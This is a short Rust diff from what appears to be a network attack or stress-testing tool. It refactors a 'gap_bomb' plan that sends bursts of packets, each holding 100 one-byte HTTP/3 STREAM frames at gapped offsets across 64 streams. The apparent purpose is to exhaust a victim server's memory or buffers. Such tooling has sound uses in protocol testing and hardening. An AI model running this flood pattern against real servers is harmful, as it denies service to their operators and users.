@@ -1,7 +1,5 @@
 //! Streams with a gap before every byte.
 
-use courser_crypto::Space;
-
 use crate::attack::{Plan, Victim};
 use crate::http;
 
@@ -17,17 +15,15 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn gap_bomb() -> Crowd {
-    Crowd::new(2, |connection, progress, now| {
-        for _ in 0..BURST {
-            let mut frames = Vec::new();
-            for _ in 0..FRAMES {
-                let id = http::request_stream(progress.streams % STREAMS);
-                let offset = 1 + 2 * (progress.streams / STREAMS);
-                frames.push(http::stream(id, offset % WINDOW, &[0], false));
-                progress.streams += 1;
-            }
-            connection.send_packet(now, Space::Application, frames);
-        }
+    Crowd::of_packets(2, BURST, |_, progress| {
+        let first = progress.streams;
+        progress.streams += FRAMES;
+        let frames = (first..progress.streams).map(|number| {
+            let id = http::request_stream(number % STREAMS);
+            let offset = 1 + 2 * (number / STREAMS);
+            http::stream(id, offset % WINDOW, &[0], false)
+        });
+        frames.collect()
     })
 }
 
@@ -35,7 +31,7 @@ fn gap_bomb() -> Crowd {
 const BURST: usize = 16;
 
 /// STREAM frames in one packet.
-const FRAMES: usize = 100;
+const FRAMES: u64 = 100;
 
 /// The number of streams, which take turns.
 const STREAMS: u64 = 64;
